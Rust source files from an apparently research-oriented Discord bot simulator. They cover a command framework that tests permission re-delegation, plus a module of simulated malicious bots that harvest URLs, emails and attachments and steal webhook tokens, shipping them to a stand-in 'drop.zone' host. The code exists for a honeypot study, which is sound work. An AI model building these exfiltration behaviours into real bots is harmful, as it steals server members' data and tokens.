        assert_eq!(extract_total_pages(&doc), Some(837));
        let doc = parse_document("<html><body></body></html>").unwrap();
        assert_eq!(extract_total_pages(&doc), None);
    }

    #[test]
    fn privacy_policy_extraction() {
        let doc = parse_document(
            r#"<html><head><title>FunBot Privacy Policy</title></head><body>
            <div id="policy"><p class="policy-text">We collect data.</p><p class="policy-text">We store data.</p></div>
            </body></html>"#,
        )
        .unwrap();
        let p = extract_privacy_policy(&doc).unwrap();
        assert_eq!(p.title, "FunBot Privacy Policy");
        assert_eq!(p.sections.len(), 2);
        let empty = parse_document("<html><body><p>no policy</p></body></html>").unwrap();
        assert!(extract_privacy_policy(&empty).is_none());
    }
}
