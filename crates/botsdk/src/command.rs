//! The prefix-command framework.
//!
//! `!kick @user`, `!purge 10`, `!play song` — the interaction model of §4.1.
//! Each [`CommandSpec`] declares the permission the *invoking user* ought to
//! hold and whether the bot actually verifies it (`checks_invoker`). A bot
//! with privileged commands and `checks_invoker = false` is the
//! permission-re-delegation case the paper's code analysis hunts for.

use crate::behavior::{Behavior, BotApi};
use discord_sim::gateway::GatewayEvent;
use discord_sim::{Permissions, Snowflake, UserId};

/// What a command does when it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandAction {
    /// Reply with fixed text.
    Reply(String),
    /// Kick the user named in the first argument (`!kick <user-id>`).
    KickArg,
    /// Ban the user named in the first argument.
    BanArg,
    /// Delete the last N non-command messages (`!purge <n>`).
    Purge,
    /// Report the invoker's own effective permissions.
    WhoAmI,
}

/// One command the bot understands.
#[derive(Debug, Clone)]
pub struct CommandSpec {
    /// Command word (without prefix), e.g. `kick`.
    pub name: String,
    /// Permission the invoking user *should* hold for this command.
    pub required_permission: Option<Permissions>,
    /// Whether the handler actually checks the invoker (Table 3 APIs).
    pub checks_invoker: bool,
    /// The effect.
    pub action: CommandAction,
}

impl CommandSpec {
    /// A harmless reply command with no permission requirement.
    pub fn reply(name: &str, text: &str) -> CommandSpec {
        CommandSpec {
            name: name.to_string(),
            required_permission: None,
            checks_invoker: false,
            action: CommandAction::Reply(text.to_string()),
        }
    }

    /// A moderation command; `checks_invoker` decides whether it is safe.
    pub fn moderation(
        name: &str,
        required: Permissions,
        checks_invoker: bool,
        action: CommandAction,
    ) -> CommandSpec {
        CommandSpec {
            name: name.to_string(),
            required_permission: Some(required),
            checks_invoker,
            action,
        }
    }
}

/// A command-driven chatbot behaviour.
pub struct CommandBot {
    /// Command prefix, e.g. `!`.
    pub prefix: String,
    /// The registered commands.
    pub commands: Vec<CommandSpec>,
    /// Count of invocations refused because the invoker lacked permission.
    pub refusals: u64,
    /// Count of privileged invocations executed *without* any invoker check
    /// (each one is a potential re-delegation).
    pub unchecked_privileged_runs: u64,
    /// Count of slash-command interactions executed, where the *platform*
    /// already verified the invoker (`default_member_permissions`).
    pub platform_verified_runs: u64,
}

impl CommandBot {
    /// A command bot with the conventional `!` prefix.
    pub fn new(commands: Vec<CommandSpec>) -> CommandBot {
        CommandBot {
            prefix: "!".into(),
            commands,
            refusals: 0,
            unchecked_privileged_runs: 0,
            platform_verified_runs: 0,
        }
    }

    fn parse_user_arg(args: &str) -> Option<UserId> {
        let token = args.split_whitespace().next()?;
        let raw = token.trim_start_matches('@');
        raw.parse::<u64>().ok().map(|v| UserId(Snowflake(v)))
    }
}

impl CommandBot {
    /// Execute a command's action on behalf of `invoker`.
    fn execute(
        &mut self,
        spec: &CommandSpec,
        api: &mut BotApi,
        guild: discord_sim::GuildId,
        channel: discord_sim::ChannelId,
        invoker: UserId,
        args: &str,
    ) {
        self.execute_with_skip(spec, api, guild, channel, invoker, args, None);
    }

    #[allow(clippy::too_many_arguments)] // mirrors the interaction payload 1:1
    fn execute_with_skip(
        &mut self,
        spec: &CommandSpec,
        api: &mut BotApi,
        guild: discord_sim::GuildId,
        channel: discord_sim::ChannelId,
        invoker: UserId,
        args: &str,
        skip_message: Option<discord_sim::MessageId>,
    ) {
        match &spec.action {
            CommandAction::Reply(text) => {
                let _ = api.send(channel, text);
            }
            CommandAction::KickArg => match Self::parse_user_arg(args) {
                Some(target) => {
                    let outcome = api.kick(guild, target);
                    let _ = api.send(
                        channel,
                        &match outcome {
                            Ok(()) => format!("kicked {target}"),
                            Err(e) => format!("cannot kick: {e}"),
                        },
                    );
                }
                None => {
                    let _ = api.send(channel, "usage: kick <user-id>");
                }
            },
            CommandAction::BanArg => match Self::parse_user_arg(args) {
                Some(target) => {
                    let outcome = api.ban(guild, target);
                    let _ = api.send(
                        channel,
                        &match outcome {
                            Ok(()) => format!("banned {target}"),
                            Err(e) => format!("cannot ban: {e}"),
                        },
                    );
                }
                None => {
                    let _ = api.send(channel, "usage: ban <user-id>");
                }
            },
            CommandAction::Purge => {
                let n: usize = args
                    .split_whitespace()
                    .next()
                    .and_then(|a| a.parse().ok())
                    .unwrap_or(0);
                if let Ok(history) = api.read_history(channel) {
                    let victims: Vec<_> = history
                        .iter()
                        .rev()
                        .filter(|m| Some(m.id) != skip_message)
                        .take(n)
                        .map(|m| m.id)
                        .collect();
                    let mut deleted = 0;
                    for id in victims {
                        if api.delete_message(channel, id).is_ok() {
                            deleted += 1;
                        }
                    }
                    let _ = api.send(channel, &format!("purged {deleted} messages"));
                }
            }
            CommandAction::WhoAmI => {
                let ctx = api.invoker_context(guild, channel, invoker);
                let _ = api.send(
                    channel,
                    &format!("your permissions: {}", ctx.user_permissions()),
                );
            }
        }
    }
}

impl Behavior for CommandBot {
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
        if let GatewayEvent::InteractionCreate {
            guild,
            channel,
            invoker,
            command,
            args,
        } = event
        {
            // The platform already checked the invoker against the
            // command's default_member_permissions; the backend just acts.
            let Some(spec) = self.commands.iter().find(|c| c.name == *command).cloned() else {
                return;
            };
            self.platform_verified_runs += 1;
            self.execute(&spec, api, *guild, *channel, *invoker, args);
            return;
        }
        let GatewayEvent::MessageCreate { guild, message } = event else {
            return;
        };
        if message.author == api.bot_id() {
            return;
        }
        let Some((cmd, args)) = message.command(&self.prefix) else {
            return;
        };
        let Some(spec) = self.commands.iter().find(|c| c.name == cmd).cloned() else {
            return;
        };

        // The developer-side check the paper measures: verify the invoker.
        if let Some(required) = spec.required_permission {
            if spec.checks_invoker {
                let ctx = api.invoker_context(*guild, message.channel, message.author);
                if !ctx.has_permission(required) {
                    self.refusals += 1;
                    let _ = api.send(message.channel, "You don't have permission to do that.");
                    return;
                }
            } else {
                // Executed purely on the *bot's* authority.
                self.unchecked_privileged_runs += 1;
            }
        }

        self.execute_with_skip(
            &spec,
            api,
            *guild,
            message.channel,
            message.author,
            args,
            Some(message.id),
        );
    }

    fn description(&self) -> String {
        let names: Vec<&str> = self.commands.iter().map(|c| c.name.as_str()).collect();
        format!(
            "Command bot ({}{})",
            self.prefix,
            names.join(&format!(" {}", self.prefix))
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::oauth::InviteUrl;
    use discord_sim::{GuildVisibility, Platform};
    use netsim::clock::VirtualClock;
    use netsim::Network;

    struct World {
        platform: Platform,
        net: Network,
        owner: UserId,
        alice: UserId,
        mallory: UserId,
        guild: discord_sim::GuildId,
        channel: discord_sim::ChannelId,
        bot: UserId,
    }

    fn world(perms: Permissions) -> World {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        let platform = Platform::new(clock);
        let owner = platform.register_user("owner", "o@x.y");
        let alice = platform.register_user("alice", "a@x.y");
        let mallory = platform.register_user("mallory", "m@x.y");
        let guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        platform.join_guild(alice, guild, None).unwrap();
        platform.join_guild(mallory, guild, None).unwrap();
        let channel = platform.default_channel(guild).unwrap();
        let app = platform.register_bot_application(owner, "ModBot").unwrap();
        let bot = platform
            .install_bot(owner, guild, &InviteUrl::bot(app.client_id, perms), true)
            .unwrap();
        World {
            platform,
            net,
            owner,
            alice,
            mallory,
            guild,
            channel,
            bot,
        }
    }

    fn invoke(w: &World, behavior: &mut CommandBot, author: UserId, content: &str) {
        let id = w
            .platform
            .send_message(author, w.channel, content, vec![])
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        let message = history.iter().find(|m| m.id == id).unwrap().clone();
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), w.bot, "modbot");
        behavior.on_event(
            &GatewayEvent::MessageCreate {
                guild: w.guild,
                message,
            },
            &mut api,
        );
    }

    fn modbot(checks_invoker: bool) -> CommandBot {
        CommandBot::new(vec![
            CommandSpec::reply("ping", "pong"),
            CommandSpec::moderation(
                "kick",
                Permissions::KICK_MEMBERS,
                checks_invoker,
                CommandAction::KickArg,
            ),
        ])
    }

    #[test]
    fn reply_command_works() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(true);
        invoke(&w, &mut bot, w.alice, "!ping");
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert_eq!(last.content, "pong");
    }

    #[test]
    fn redelegation_attack_succeeds_without_invoker_check() {
        // The §5 "Improper Permission Checks" scenario: mallory has no kick
        // permission, the bot does, and the bot does not check the invoker.
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(false);
        let target = w.alice.0.raw();
        invoke(&w, &mut bot, w.mallory, &format!("!kick {target}"));
        // Alice was kicked even though mallory had no right to ask.
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_err());
        assert_eq!(bot.unchecked_privileged_runs, 1);
        assert_eq!(bot.refusals, 0);
    }

    #[test]
    fn invoker_check_blocks_redelegation() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(true);
        let target = w.alice.0.raw();
        invoke(&w, &mut bot, w.mallory, &format!("!kick {target}"));
        // Alice is still a member; mallory was refused.
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_ok());
        assert_eq!(bot.refusals, 1);
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert!(last.content.contains("permission"));
    }

    #[test]
    fn privileged_invoker_passes_check() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(true);
        let target = w.alice.0.raw();
        // The owner may kick.
        invoke(&w, &mut bot, w.owner, &format!("!kick {target}"));
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_err());
        assert_eq!(bot.refusals, 0);
    }

    #[test]
    fn bot_without_platform_permission_fails_gracefully() {
        // Even an unchecked bot cannot kick if the *bot* lacks the permission:
        // "a bot can not perform actions if it does not have the
        // corresponding permission" (§5).
        let w = world(Permissions::SEND_MESSAGES);
        let mut bot = modbot(false);
        let target = w.alice.0.raw();
        invoke(&w, &mut bot, w.mallory, &format!("!kick {target}"));
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_ok());
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert!(last.content.contains("cannot kick"));
    }

    #[test]
    fn kick_requires_user_argument() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(false);
        invoke(&w, &mut bot, w.owner, "!kick");
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert!(last.content.contains("usage"));
    }

    #[test]
    fn purge_deletes_messages() {
        let w = world(
            Permissions::SEND_MESSAGES
                | Permissions::MANAGE_MESSAGES
                | Permissions::READ_MESSAGE_HISTORY
                | Permissions::VIEW_CHANNEL,
        );
        let mut bot = CommandBot::new(vec![CommandSpec::moderation(
            "purge",
            Permissions::MANAGE_MESSAGES,
            true,
            CommandAction::Purge,
        )]);
        for i in 0..5 {
            w.platform
                .send_message(w.alice, w.channel, &format!("spam {i}"), vec![])
                .unwrap();
        }
        invoke(&w, &mut bot, w.owner, "!purge 3");
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        // 5 spam - 3 purged + 1 command + 1 bot confirmation = 4
        assert_eq!(history.len(), 4);
        let last = history.last().unwrap();
        assert!(last.content.contains("purged 3"));
    }

    #[test]
    fn whoami_reports_permissions() {
        let w = world(Permissions::SEND_MESSAGES);
        let mut bot = CommandBot::new(vec![CommandSpec {
            name: "whoami".into(),
            required_permission: None,
            checks_invoker: false,
            action: CommandAction::WhoAmI,
        }]);
        invoke(&w, &mut bot, w.alice, "!whoami");
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert!(last.content.contains("send messages"));
    }

    #[test]
    fn slash_interaction_executes_without_developer_check() {
        // The §5 fix end-to-end: even an UNCHECKED bot is safe behind slash
        // commands, because the platform gates the invoker.
        let w = world(Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS);
        let mut bot = modbot(false); // developer never checks!
        w.platform
            .register_slash_commands(
                w.owner,
                w.bot.0.raw(),
                vec![discord_sim::SlashCommand::gated(
                    "kick",
                    "remove a member",
                    Permissions::KICK_MEMBERS,
                )],
            )
            .unwrap();
        // Mallory is rejected by the platform; no interaction reaches the bot.
        let err = w
            .platform
            .invoke_slash(
                w.mallory,
                w.channel,
                w.bot.0.raw(),
                "kick",
                &w.alice.0.raw().to_string(),
            )
            .unwrap_err();
        assert!(matches!(
            err,
            discord_sim::PlatformError::MissingPermission { .. }
        ));
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_ok());
        assert_eq!(bot.platform_verified_runs, 0);

        // The owner's interaction arrives and executes.
        let rx = w.platform.connect_gateway(w.bot).unwrap();
        w.platform
            .invoke_slash(
                w.owner,
                w.channel,
                w.bot.0.raw(),
                "kick",
                &w.alice.0.raw().to_string(),
            )
            .unwrap();
        let ev = rx.try_recv().unwrap();
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), w.bot, "modbot");
        bot.on_event(&ev, &mut api);
        assert_eq!(bot.platform_verified_runs, 1);
        assert!(
            w.platform.guild(w.guild).unwrap().member(w.alice).is_err(),
            "kicked via /kick"
        );
    }

    #[test]
    fn unknown_commands_are_ignored() {
        let w = world(Permissions::SEND_MESSAGES);
        let mut bot = modbot(true);
        invoke(&w, &mut bot, w.alice, "!dance");
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        assert_eq!(history.len(), 1, "only the user's message");
    }
}
