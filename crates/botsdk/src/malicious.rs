//! Malicious / invasive backend behaviours.
//!
//! These are the behaviours the honeypot experiment (§4.2) exists to catch:
//!
//! * [`ExfiltratorBehavior`] — an automated backend that, on every message
//!   it can see, harvests URLs, email addresses, and attachments, fetching
//!   the URLs (and any URLs embedded in documents) from its own server.
//! * [`SnooperBehavior`] — the "Melonian" case: the developer logs in as
//!   the bot, skims recent history once, opens what looks interesting, and
//!   leaves a very human message ("wtf is this bro").
//!
//! Both only ever use platform capabilities the bot was legitimately granted
//! — that is the point: nothing here is an exploit, it is *permitted* access
//! used against the spirit of Discord's developer policy.

use crate::behavior::{Behavior, BotApi};
use discord_sim::gateway::GatewayEvent;
use discord_sim::message::Attachment;
use discord_sim::GuildId;

/// Extract `http(s)://…` substrings from arbitrary bytes — how a document
/// preview/open ends up fetching remote resources embedded in metadata.
pub fn urls_in_bytes(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    let mut out = Vec::new();
    for scheme in ["https://", "http://"] {
        let mut offset = 0;
        while let Some(pos) = text[offset..].find(scheme) {
            let abs = offset + pos;
            let tail = &text[abs..];
            let end = tail
                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '>' || c == ')')
                .unwrap_or(tail.len());
            out.push(tail[..end].to_string());
            offset = abs + end.max(1);
        }
    }
    out.sort();
    out.dedup();
    out
}

/// An automated data-harvesting backend.
pub struct ExfiltratorBehavior {
    /// Where the harvest is shipped (the developer's collection endpoint,
    /// if mounted; failures are ignored, as a real exfiltrator would).
    pub drop_host: Option<String>,
    /// Whether harvested email addresses are *used* (spammed) — the
    /// behaviour an email canary token detects. The spam is modeled as a
    /// delivery request to the address's mail host.
    pub spams_harvested_emails: bool,
    /// URLs fetched so far.
    pub fetched_urls: Vec<String>,
    /// Emails harvested so far.
    pub harvested_emails: Vec<String>,
    /// Attachments opened so far (filenames).
    pub opened_attachments: Vec<String>,
}

impl ExfiltratorBehavior {
    /// A fresh exfiltrator; pass a drop host to also ship the harvest out.
    pub fn new(drop_host: Option<&str>) -> ExfiltratorBehavior {
        ExfiltratorBehavior {
            drop_host: drop_host.map(str::to_string),
            spams_harvested_emails: false,
            fetched_urls: Vec::new(),
            harvested_emails: Vec::new(),
            opened_attachments: Vec::new(),
        }
    }

    /// Enable spamming of harvested addresses.
    pub fn spamming(mut self) -> ExfiltratorBehavior {
        self.spams_harvested_emails = true;
        self
    }

    fn open_attachment(&mut self, att: &Attachment, api: &mut BotApi) {
        self.opened_attachments.push(att.filename.clone());
        // "Opening" a document triggers any remote resources referenced in
        // its metadata — exactly how canary documents phone home.
        for url in urls_in_bytes(&att.bytes) {
            if api.fetch_url(&url).is_ok() {
                self.fetched_urls.push(url);
            }
        }
    }

    fn ship_out(&mut self, api: &mut BotApi, what: &str) {
        if let Some(host) = &self.drop_host {
            let _ = api.fetch_url(&format!("https://{host}/drop?data={what}"));
        }
    }
}

impl Behavior for ExfiltratorBehavior {
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
        let GatewayEvent::MessageCreate { message, .. } = event else {
            return;
        };
        if message.author == api.bot_id() {
            return;
        }
        for url in message.urls() {
            if api.fetch_url(url).is_ok() {
                self.fetched_urls.push(url.to_string());
            }
        }
        for email in message.emails() {
            let email = email.to_string();
            self.harvested_emails.push(email.clone());
            self.ship_out(api, &email);
            if self.spams_harvested_emails {
                // "Using" the address: deliver mail to its host, which is
                // exactly the signal an email canary produces.
                if let Some((local, domain)) = email.split_once('@') {
                    let _ = api.fetch_url(&format!("https://{domain}/mail/{local}"));
                }
            }
        }
        let attachments: Vec<Attachment> = message.attachments.clone();
        for att in &attachments {
            self.open_attachment(att, api);
        }
    }

    fn description(&self) -> String {
        "A totally normal utility bot.".to_string()
    }
}

/// The manual, one-shot developer snoop (Melonian).
///
/// Dormant until it has seen `trigger_after` messages in a guild; then the
/// "developer logs in", reads the channel history once, opens documents and
/// links, and posts a human aside. Never triggers again in that guild.
pub struct SnooperBehavior {
    /// Messages observed per guild before curiosity wins.
    pub trigger_after: usize,
    /// What the developer blurts out after seeing the content.
    pub aside: String,
    seen: std::collections::BTreeMap<GuildId, usize>,
    snooped: std::collections::BTreeSet<GuildId>,
    /// URLs fetched during snoops.
    pub fetched_urls: Vec<String>,
    /// Attachments opened during snoops (filenames).
    pub opened_attachments: Vec<String>,
}

impl SnooperBehavior {
    /// A snooper modeled on the paper's observation.
    pub fn new(trigger_after: usize) -> SnooperBehavior {
        SnooperBehavior {
            trigger_after,
            aside: "wtf is this bro".to_string(),
            seen: Default::default(),
            snooped: Default::default(),
            fetched_urls: Vec::new(),
            opened_attachments: Vec::new(),
        }
    }
}

impl Behavior for SnooperBehavior {
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
        let GatewayEvent::MessageCreate { guild, message } = event else {
            return;
        };
        if message.author == api.bot_id() {
            return;
        }
        let count = self.seen.entry(*guild).or_insert(0);
        *count += 1;
        if *count < self.trigger_after || self.snooped.contains(guild) {
            return;
        }
        self.snooped.insert(*guild);

        // The developer skims the channel as the bot.
        let Ok(history) = api.read_history(message.channel) else {
            return;
        };
        for msg in &history {
            for url in msg.urls() {
                if api.fetch_url(url).is_ok() {
                    self.fetched_urls.push(url.to_string());
                }
            }
            for att in &msg.attachments {
                self.opened_attachments.push(att.filename.clone());
                for url in urls_in_bytes(&att.bytes) {
                    if api.fetch_url(&url).is_ok() {
                        self.fetched_urls.push(url);
                    }
                }
            }
        }
        // The human tell.
        let _ = api.send(message.channel, &self.aside);
    }

    fn description(&self) -> String {
        "Fun commands and memes!".to_string()
    }
}

/// The "Spidey Bot" pattern the paper cites (\[54\]): a bot holding
/// `MANAGE_WEBHOOKS` quietly enumerates channel webhooks and ships the
/// tokens to the developer's server. Anyone holding a token can post into
/// the channel forever after — no account required.
pub struct WebhookThiefBehavior {
    /// Where stolen tokens are shipped.
    pub drop_host: String,
    /// Tokens stolen so far.
    pub stolen_tokens: Vec<String>,
    seen_channels: std::collections::BTreeSet<discord_sim::ChannelId>,
}

impl WebhookThiefBehavior {
    /// A thief shipping to `drop_host`.
    pub fn new(drop_host: &str) -> WebhookThiefBehavior {
        WebhookThiefBehavior {
            drop_host: drop_host.to_string(),
            stolen_tokens: Vec::new(),
            seen_channels: Default::default(),
        }
    }
}

impl Behavior for WebhookThiefBehavior {
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
        let GatewayEvent::MessageCreate { message, .. } = event else {
            return;
        };
        if message.author == api.bot_id() || self.seen_channels.contains(&message.channel) {
            return;
        }
        self.seen_channels.insert(message.channel);
        let Ok(hooks) = api.list_webhooks(message.channel) else {
            return;
        };
        for hook in hooks {
            self.stolen_tokens.push(hook.token.clone());
            let drop = self.drop_host.clone();
            let _ = api.fetch_url(&format!(
                "https://{drop}/drop?hook={}&token={}",
                hook.id, hook.token
            ));
        }
    }

    fn description(&self) -> String {
        "Server utilities and integrations.".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::oauth::InviteUrl;
    use discord_sim::{GuildVisibility, Permissions, Platform, UserId};
    use netsim::clock::VirtualClock;
    use netsim::http::{Request, Response};
    use netsim::{Network, ServiceCtx};

    struct World {
        platform: Platform,
        net: Network,
        owner: UserId,
        alice: UserId,
        guild: discord_sim::GuildId,
        channel: discord_sim::ChannelId,
        bot: UserId,
    }

    fn world(perms: Permissions) -> World {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        net.mount("canary.sink", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
            Response::ok(format!("signal {}", req.url.path))
        });
        net.mount("drop.zone", |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
            Response::ok("ok")
        });
        let platform = Platform::new(clock);
        let owner = platform.register_user("owner", "o@x.y");
        let alice = platform.register_user("alice", "a@x.y");
        let guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        platform.join_guild(alice, guild, None).unwrap();
        let channel = platform.default_channel(guild).unwrap();
        let app = platform.register_bot_application(owner, "Shady").unwrap();
        let bot = platform
            .install_bot(owner, guild, &InviteUrl::bot(app.client_id, perms), true)
            .unwrap();
        World {
            platform,
            net,
            owner,
            alice,
            guild,
            channel,
            bot,
        }
    }

    fn deliver(
        w: &World,
        behavior: &mut dyn Behavior,
        author: UserId,
        content: &str,
        atts: Vec<Attachment>,
    ) {
        let id = w
            .platform
            .send_message(author, w.channel, content, atts)
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        let message = history.iter().find(|m| m.id == id).unwrap().clone();
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), w.bot, "shady");
        behavior.on_event(
            &GatewayEvent::MessageCreate {
                guild: w.guild,
                message,
            },
            &mut api,
        );
    }

    #[test]
    fn urls_in_bytes_finds_embedded_links() {
        let doc =
            b"PK\x03\x04 docProps https://canary.sink/t/abc123 more <a href=\"http://x.y/z\">";
        let urls = urls_in_bytes(doc);
        assert_eq!(urls, vec!["http://x.y/z", "https://canary.sink/t/abc123"]);
        assert!(urls_in_bytes(b"no links").is_empty());
    }

    #[test]
    fn exfiltrator_fetches_posted_urls() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
        let mut x = ExfiltratorBehavior::new(None);
        deliver(
            &w,
            &mut x,
            w.alice,
            "see https://canary.sink/t/tok1 ok",
            vec![],
        );
        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/tok1"]);
        w.net
            .with_trace(|t| assert_eq!(t.matching_url("canary.sink").len(), 1));
    }

    #[test]
    fn exfiltrator_opens_attachments_and_triggers_doc_tokens() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
        let mut x = ExfiltratorBehavior::new(None);
        let doc = Attachment::new(
            "budget.docx",
            "application/vnd.word",
            b"fake-docx-metadata https://canary.sink/t/doc42 end".to_vec(),
        );
        deliver(&w, &mut x, w.alice, "quarterly numbers attached", vec![doc]);
        assert_eq!(x.opened_attachments, vec!["budget.docx"]);
        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/doc42"]);
    }

    #[test]
    fn exfiltrator_ships_emails_to_drop_host() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
        let mut x = ExfiltratorBehavior::new(Some("drop.zone"));
        deliver(
            &w,
            &mut x,
            w.alice,
            "contact cfo@megacorp.example for the docs",
            vec![],
        );
        assert_eq!(x.harvested_emails, vec!["cfo@megacorp.example"]);
        w.net.with_trace(|t| {
            let drops = t.matching_url("drop.zone");
            assert_eq!(drops.len(), 1);
            assert!(
                drops[0].url.contains("cfo%40megacorp.example")
                    || drops[0].url.contains("cfo@megacorp.example")
            );
        });
    }

    #[test]
    fn webhook_thief_exfiltrates_tokens_visible_on_the_wire() {
        let w = world(
            Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL | Permissions::MANAGE_WEBHOOKS,
        );
        // The guild owner set up a legitimate webhook earlier.
        let hook = w
            .platform
            .create_webhook(w.owner, w.channel, "ci-updates")
            .unwrap();
        let mut thief = WebhookThiefBehavior::new("drop.zone");
        deliver(&w, &mut thief, w.alice, "ordinary chatter", vec![]);
        assert_eq!(thief.stolen_tokens, vec![hook.token.clone()]);
        // The theft leaves a network trace carrying the token — the tap a
        // defender (or our honeypot) can watch.
        w.net.with_trace(|t| {
            let drops = t.matching_url("drop.zone");
            assert_eq!(drops.len(), 1);
            assert!(drops[0].url.contains(&hook.token));
        });
        // One-shot per channel: more chatter does not re-steal.
        deliver(&w, &mut thief, w.alice, "more chatter", vec![]);
        assert_eq!(thief.stolen_tokens.len(), 1);
    }

    #[test]
    fn webhook_thief_without_permission_steals_nothing() {
        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
        w.platform.create_webhook(w.owner, w.channel, "ci").unwrap();
        let mut thief = WebhookThiefBehavior::new("drop.zone");
        deliver(&w, &mut thief, w.alice, "hello", vec![]);
        assert!(thief.stolen_tokens.is_empty(), "MANAGE_WEBHOOKS gate held");
        w.net
            .with_trace(|t| assert!(t.matching_url("drop.zone").is_empty()));
    }

    #[test]
    fn snooper_stays_dormant_then_snoops_once() {
        let w = world(
            Permissions::SEND_MESSAGES
                | Permissions::VIEW_CHANNEL
                | Permissions::READ_MESSAGE_HISTORY,
        );
        let mut s = SnooperBehavior::new(3);
        let doc = Attachment::new(
            "notes.docx",
            "application/vnd.word",
            b"https://canary.sink/t/snoop7".to_vec(),
        );
        deliver(
            &w,
            &mut s,
            w.alice,
            "first https://canary.sink/t/early",
            vec![doc],
        );
        assert!(s.fetched_urls.is_empty(), "dormant below threshold");
        deliver(&w, &mut s, w.alice, "second message", vec![]);
        assert!(s.fetched_urls.is_empty());
        // Third message crosses the threshold → one full snoop of history.
        deliver(&w, &mut s, w.alice, "third message", vec![]);
        assert!(s
            .fetched_urls
            .contains(&"https://canary.sink/t/early".to_string()));
        assert!(s
            .fetched_urls
            .contains(&"https://canary.sink/t/snoop7".to_string()));
        assert_eq!(s.opened_attachments, vec!["notes.docx"]);
        // The human aside was posted by the bot account.
        let last = w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .pop()
            .unwrap();
        assert_eq!(last.content, "wtf is this bro");
        assert_eq!(last.author, w.bot);
        // Further messages do not re-trigger.
        let before = s.fetched_urls.len();
        deliver(
            &w,
            &mut s,
            w.alice,
            "fourth https://canary.sink/t/later",
            vec![],
        );
        assert_eq!(s.fetched_urls.len(), before);
    }

    #[test]
    fn snooper_without_history_permission_cannot_snoop() {
        let w = world(Permissions::SEND_MESSAGES);
        // Strip READ_MESSAGE_HISTORY from @everyone so the bot truly lacks it.
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let stripped =
            Permissions::everyone_defaults().difference(Permissions::READ_MESSAGE_HISTORY);
        w.platform
            .edit_role(w.owner, w.guild, everyone, stripped)
            .unwrap();
        let mut s = SnooperBehavior::new(1);
        deliver(&w, &mut s, w.alice, "https://canary.sink/t/guarded", vec![]);
        assert!(
            s.fetched_urls.is_empty(),
            "no READ_MESSAGE_HISTORY → no snoop"
        );
    }
}
