//! Driving bots: deterministic single-threaded rounds or real threads.
//!
//! The deterministic [`BotRunner::run_until_idle`] is what the measurement
//! pipeline uses: it drains every bot's gateway queue in rounds, in a fixed
//! order, until the system quiesces — so a honeypot campaign is exactly
//! reproducible. [`BotRunner::run_threaded_burst`] exists to show the same
//! bots work when each backend runs on its own thread, as real ones do.

use crate::behavior::{Behavior, BotApi};
use crossbeam::channel::Receiver;
use discord_sim::gateway::GatewayEvent;
use discord_sim::{Platform, PlatformResult, UserId};
use netsim::Network;

/// One connected bot: account + gateway + backend behaviour.
pub struct Bot {
    /// The bot's account.
    pub user: UserId,
    /// Trace label of the backend.
    pub label: String,
    behavior: Box<dyn Behavior>,
    rx: Receiver<GatewayEvent>,
    api: BotApi,
}

impl Bot {
    /// Connect a bot account's gateway and attach a behaviour.
    pub fn connect(
        platform: Platform,
        net: Network,
        user: UserId,
        label: &str,
        behavior: Box<dyn Behavior>,
    ) -> PlatformResult<Bot> {
        let rx = platform.connect_gateway(user)?;
        let api = BotApi::new(platform, net, user, label);
        Ok(Bot {
            user,
            label: label.to_string(),
            behavior,
            rx,
            api,
        })
    }

